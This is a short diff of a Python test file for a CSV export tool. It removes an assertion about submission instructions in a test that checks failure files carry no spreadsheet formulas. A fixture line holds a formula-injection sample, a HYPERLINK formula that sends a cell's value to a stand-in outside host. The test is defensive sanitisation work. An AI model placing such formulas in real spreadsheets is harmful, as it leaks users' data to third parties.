@@ -20,7 +20,7 @@ from producer.jobs.model.items import Item
 from producer.jobs.model.results import Failure, Result
 from producer.jobs.model.spec import JobSpec
 from producer.output.export import columns, write_csv, write_rows
-from producer.output.failures import HOW_TO_SUBMIT, write_failures
+from producer.output.failures import write_failures
 
 COMPUTED = '=HYPERLINK("https://a.example/?"&A1,"x")'
 #: What a spreadsheet computes, or what a program that splits cells makes such a one of.
@@ -104,7 +104,6 @@ def test_failures_have_no_formulas_and_are_submitted_again_as_they_were(tmp_path
     write_failures(lambda: iter([failure(0, text)]), path)
     with path.open(newline="") as file:
         assert [cell for row in csv.reader(file) for cell in row if is_computed(cell)] == []
-    assert "--id-column id" in HOW_TO_SUBMIT
     reading = ReadOptions(
         uri_column="uri", class_column="class", id_column="id", label_column="label", keep_columns=(text,)
     )
